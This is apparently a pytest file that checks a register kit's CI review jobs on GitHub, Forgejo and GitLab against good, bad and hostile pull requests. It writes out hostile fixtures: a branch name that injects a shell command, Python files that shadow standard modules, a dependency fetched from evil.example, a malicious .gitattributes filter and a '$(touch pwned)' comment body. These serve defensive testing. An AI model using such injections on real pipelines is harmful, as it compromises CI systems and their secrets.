"""The checks of the kit, carried out step by step: on a change that is good, on one that is bad, on a hostile one."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import parse_qs

import pytest
import ryaml

from tests.support import forge_jobs as jobs
from tests.support.forge_jobs import Remote
from tests.support.program import run_at

MARKER = "<!-- solidarity-review -->"
SECRET = "Арсений Колокольцев"
BRANCH = 'x";touch${IFS}pwned;"'
"""A name that git allows, and a shell would carry out."""

pytestmark = pytest.mark.skipif(
    not all(map(shutil.which, ("bash", "base64", "od"))), reason="bash and coreutils are needed"
)


@pytest.fixture
def remote(tmp_path: Path) -> Callable[..., Remote]:
    """`remote("github", break_it)`: a register with its kit on a server, and a change made by `break_it(folder, case)`."""

    def made(forge: str, change: Callable[[Path, str], None]) -> Remote:
        folder = tmp_path / "register"
        assert run_at(tmp_path, "init", "register", "--no-sealing", "--forge", forge).exit_code == 0
        (folder / ".solidarity/program.txt").write_text(f"{jobs.wheel(tmp_path)}\n")
        jobs.git(folder, "commit", "--no-verify", "-qam", "the program")
        arguments = ("--country", "RU", "--incident", "search", "--name", SECRET)
        case = run_at(folder, "-q", "--no-input", "new-case", *arguments).out.strip()
        jobs.git(folder, "switch", "-qc", BRANCH)
        change(folder, case)
        jobs.git(folder, "add", "--all")
        jobs.git(folder, "commit", "--no-verify", "-qm", "change")
        bare = tmp_path / "server" / "forum" / "register"
        bare.parent.mkdir(parents=True)
        jobs.git(tmp_path, "clone", "-q", "--bare", str(folder), str(bare))
        head = jobs.git(folder, "rev-parse", "HEAD")
        jobs.git(bare, "update-ref", "refs/pull/7/head", head)
        return Remote(tmp_path / "server", jobs.git(folder, "rev-parse", "main"), head)

    return made


def _edit(folder: Path, case: str, old: str, new: str) -> None:
    file = next(folder.glob(f"cases/*/{case}.yaml"))
    assert old in file.read_text()
    file.write_text(file.read_text().replace(old, new))


def good(folder: Path, case: str) -> None:
    """A change that is right."""
    assert run_at(folder, "--no-input", "edit", case, "--set", "urgency=urgent").exit_code == 0
    (folder / "docs").mkdir()
    (folder / "docs" / "more.md").write_text("more\n")


def bad(folder: Path, case: str) -> None:
    """A change that breaks a rule."""
    _edit(folder, case, "status: received", "status: closed")


def hostile(folder: Path, case: str) -> None:
    """A change that would like to be carried out, and to say by itself what checks it."""
    bad(folder, case)
    for name in ("venv", "pip", "ssl", "json", "solidarity_cli", "sitecustomize"):
        (folder / f"{name}.py").write_text(f"import pathlib; pathlib.Path({str(folder.parent / 'pwned')!r}).touch()\n")
    (folder / ".solidarity/program.txt").write_text("solidarity-register @ https://evil.example/x.whl\n")
    (folder / ".gitattributes").write_text("*.yaml filter=evil\n")


def _github(remote: Remote, tmp_path: Path) -> tuple[list[subprocess.CompletedProcess[str]], dict[str, Path]]:
    workflow = remote.server.parent / "register/.github/workflows/solidarity.yml"
    jobs.git(remote.server.parent / "register", "switch", "-q", "main")
    files = {name: tmp_path / name for name in ("work", "temp", "summary", "output")}
    files["work"].mkdir()
    files["temp"].mkdir()
    told = {
        "github.server_url": f"file://{remote.server}",
        "github.repository": "forum/register",
        "github.event.pull_request.base.ref": "main",
        "github.event.pull_request.number": "7",
        "github.token": "secret-token-of-the-job",
    }
    world = {"BASE": remote.base, "HEAD": remote.head, "RUNNER_TEMP": str(files["temp"])}
    world |= {"GITHUB_STEP_SUMMARY": str(files["summary"]), "GITHUB_OUTPUT": str(files["output"])}
    return jobs.carry_out(jobs.job(workflow, "check")["steps"], files["work"], told, world), files


def _output(files: dict[str, Path]) -> str:
    found = re.fullmatch(r"card<<(end-[0-9a-f]{32})\n(.*)\1\n", files["output"].read_text(), re.DOTALL)
    assert found
    return found[2]


def test_github_a_good_change(remote: Callable[..., Remote], tmp_path: Path) -> None:
    done, files = _github(remote("github", good), tmp_path)
    assert [one.returncode for one in done] == [0, 0, 0, 0], done[-1].stderr
    card = _output(files)
    assert card.startswith(MARKER)
    assert "| Urgency | – | Urgent |" in card
    assert files["summary"].read_text() == card
    assert SECRET not in card
    kept = "".join(file.read_text(errors="replace") for file in (files["work"] / ".git").rglob("*") if file.is_file())
    assert "secret-token-of-the-job" not in kept, "no credential stays behind"


def test_github_a_hostile_change_is_data(remote: Callable[..., Remote], tmp_path: Path) -> None:
    done, files = _github(remote("github", hostile), tmp_path)
    assert [one.returncode for one in done] == [0, 0, 0, 1], done[-1].stderr
    card = _output(files)
    assert done[-1].stdout.startswith("::error file=cases/2026/")
    assert "## New findings" in card
    assert "the program that checks" in card
    assert ".gitattributes" in card
    assert not (files["work"] / "venv.py").exists(), "the change is never checked out"
    assert not list(tmp_path.rglob("pwned"))


FAKE_GH = """#!/bin/sh
printf '%s\\n' "$*" >> "$GH_LOG"
case "$*" in
  *"--paginate"*) jq -r "$5" < "$GH_COMMENTS" ;;
  *) while [ "$1" != --input ]; do shift; done; cp "$2" "$GH_BODY" ;;
esac
"""


@pytest.mark.skipif(not shutil.which("jq"), reason="jq is needed, as on the forge's runner")
@pytest.mark.parametrize("mine", [True, False])
def test_github_the_card_stays_one_comment(tmp_path: Path, mine: bool) -> None:
    assert run_at(tmp_path, "init", "register", "--no-sealing", "--forge", "github").exit_code == 0
    steps = jobs.job(tmp_path / "register/.github/workflows/solidarity.yml", "card")["steps"]
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "gh").write_text(FAKE_GH)
    (tmp_path / "bin" / "gh").chmod(0o755)
    comments = [{"id": 1, "user": {"login": "eve"}, "body": f"{MARKER}\nmine, says she"}]
    comments += [{"id": 2, "user": {"login": "github-actions[bot]"}, "body": f"{MARKER}\nold"}] if mine else []
    (tmp_path / "comments").write_text(json.dumps(comments))
    card = f'{MARKER}\n# Review\n\n"$(touch pwned)" `x` Ж\n'
    told = {"github.token": "t", "github.repository": "forum/register", "github.event.pull_request.number": "7", "needs.check.outputs.card": card}  # fmt: skip
    world = {"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}", "RUNNER_TEMP": str(tmp_path), "GH_LOG": str(tmp_path / "log"), "GH_BODY": str(tmp_path / "body"), "GH_COMMENTS": str(tmp_path / "comments")}  # fmt: skip
    (done,) = jobs.carry_out(steps, tmp_path, told, world)
    assert done.returncode == 0, done.stderr
    last = (tmp_path / "log").read_text().splitlines()[-1]
    assert last.startswith("api --method PATCH repos/forum/register/issues/comments/2" if mine else "api --method POST repos/forum/register/issues/7/comments")  # fmt: skip
    assert json.loads((tmp_path / "body").read_text()) == {"body": card}
    assert not (tmp_path / "pwned").exists()


class _Forgejo(BaseHTTPRequestHandler):
    """A forge's comments, as far as the job asks for them."""

    comments: ClassVar[list[dict[str, Any]]] = []
    asked: ClassVar[list[tuple[str, str, Any]]] = []

    def _answer(self, data: Any) -> None:
        body = json.dumps(data).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self.asked.append(("GET", self.path, self.headers["Authorization"]))
        self._answer(self.comments)

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.asked.append((self.command, self.path, body))
        self._answer({})

    do_PATCH = do_POST

    def log_message(self, *_arguments: object) -> None:
        """Quiet."""


@pytest.fixture
def forgejo() -> Iterator[str]:
    _Forgejo.comments, _Forgejo.asked = [], []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Forgejo)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_forgejo_from_the_fetch_to_the_comment(remote: Callable[..., Remote], tmp_path: Path, forgejo: str) -> None:
    there = remote("forgejo", bad)
    jobs.git(tmp_path / "register", "switch", "-q", "main")
    steps = jobs.job(tmp_path / "register/.forgejo/workflows/solidarity.yml", "check")["steps"]
    (tmp_path / "work").mkdir()
    told = {"github.repository": "forum/register", "github.event.pull_request.base.ref": "main", "github.event.pull_request.number": "7", "github.token": "t"}  # fmt: skip
    world = {"BASE": there.base, "HEAD": there.head, "WORK": str(tmp_path / "venv")}
    post = next(index for index, step in enumerate(steps) if step["name"].startswith("Write the card"))
    first = jobs.carry_out(
        steps[:post], tmp_path / "work", {**told, "github.server_url": f"file://{there.server}"}, world
    )
    assert [one.returncode for one in first] == [0, 0, 0], first[-1].stderr
    card = first[-1].stdout
    for known in ([], [{"id": 5, "user": {"login": "forgejo-actions"}, "body": f"{MARKER}\nold"}]):
        _Forgejo.comments = [{"id": 4, "user": {"login": "eve"}, "body": MARKER}, *known]
        (done,) = jobs.carry_out([steps[post]], tmp_path / "work", {**told, "github.server_url": forgejo}, world)
        assert done.returncode == 0, done.stderr
        method, path, body = _Forgejo.asked[-1]
        assert body == {"body": card}
        assert (method, path) == (
            ("PATCH", "/api/v1/repos/forum/register/issues/comments/5") if known else ("POST", "/api/v1/repos/forum/register/issues/7/comments")
        )  # fmt: skip
    (last,) = jobs.carry_out(steps[post + 1 :], tmp_path / "work", told, world)
    assert last.returncode == 1
    assert "error: " in last.stdout


@pytest.mark.parametrize(("change", "code"), [(good, 0), (bad, 1)])
def test_gitlab_by_an_emulator(remote: Callable[..., Remote], tmp_path: Path, change: Any, code: int) -> None:
    emulator = Path(sys.executable).parent / "gle"
    if not emulator.exists():
        pytest.skip("gitlab-emulator is not installed: make setup")
    there = remote("gitlab", change)
    jobs.git(tmp_path, "clone", "-q", str(there.server / "forum/register"), "clone")
    jobs.git(tmp_path / "clone", "remote", "set-url", "origin", "https://gitlab.example/forum/register.git")
    known = {"CI_PIPELINE_SOURCE": "merge_request_event", "CI_MERGE_REQUEST_DIFF_BASE_SHA": there.base, "CI_COMMIT_SHA": there.head}  # fmt: skip
    options = [part for key, value in known.items() for part in ("--var", f"{key}={value}")]
    env = {**os.environ, "PIP_NO_INDEX": "1", "PIP_CONFIG_FILE": os.devnull}
    command = [str(emulator), "--ignore-docker", "--full", *options, "solidarity"]
    done = subprocess.run(
        command, cwd=tmp_path / "clone", env=env, capture_output=True, text=True, check=False, timeout=300
    )
    assert (done.returncode != 0) == bool(code), done.stdout + done.stderr
    card = (tmp_path / "clone" / "card.md").read_text()
    assert card.startswith(MARKER), done.stdout + done.stderr
    assert SECRET not in card
    report = json.loads((tmp_path / "clone" / "gl-code-quality-report.json").read_text())
    assert [one["severity"] for one in report][:code] == ["major"] * code


class _Gitlab(_Forgejo):
    """The same for GitLab: who I am, the notes, and a note written as a form."""

    def do_GET(self) -> None:
        self.asked.append(("GET", self.path, self.headers["PRIVATE-TOKEN"]))
        self._answer({"id": 9} if self.path.endswith("/user") else self.comments)

    def do_POST(self) -> None:
        form = parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.asked.append((self.command, self.path, form["body"][0]))
        self._answer({})

    do_PUT = do_POST


@pytest.mark.skipif(not shutil.which("curl"), reason="curl is needed, as in the job's image")
@pytest.mark.parametrize("mine", [True, False])
def test_gitlab_the_card_stays_one_comment(tmp_path: Path, mine: bool) -> None:
    assert run_at(tmp_path, "init", "register", "--no-sealing", "--forge", "gitlab").exit_code == 0
    script = ryaml.loads((tmp_path / "register/.gitlab-ci.yml").read_text())["solidarity-card"]["script"]
    card = f"{MARKER}\n# Review & more = 1%\n\nЖ\n"
    (tmp_path / "card.md").write_text(card)
    _Gitlab.asked = []
    _Gitlab.comments = [{"id": 1, "author": {"id": 8}, "body": f"{MARKER}\nmine, says she"}]
    _Gitlab.comments += [{"id": 2, "author": {"id": 9}, "body": f"{MARKER}\nold"}] if mine else []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Gitlab)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    world = {"CI_API_V4_URL": f"http://127.0.0.1:{server.server_port}", "CI_PROJECT_ID": "3", "CI_MERGE_REQUEST_IID": "7", "SOLIDARITY_REVIEW_TOKEN": "secret-token"}  # fmt: skip
    (done,) = jobs.carry_out([{"run": "\n".join(script)}], tmp_path, {}, world)
    server.shutdown()
    server.server_close()
    assert done.returncode == 0, done.stderr
    assert [one[2] for one in _Gitlab.asked[:2]] == ["secret-token"] * 2
    where = "/projects/3/merge_requests/7/notes"
    assert _Gitlab.asked[-1] == ("PUT" if mine else "POST", f"{where}/2" if mine else where, card)
    assert "secret-token" not in done.stdout + done.stderr
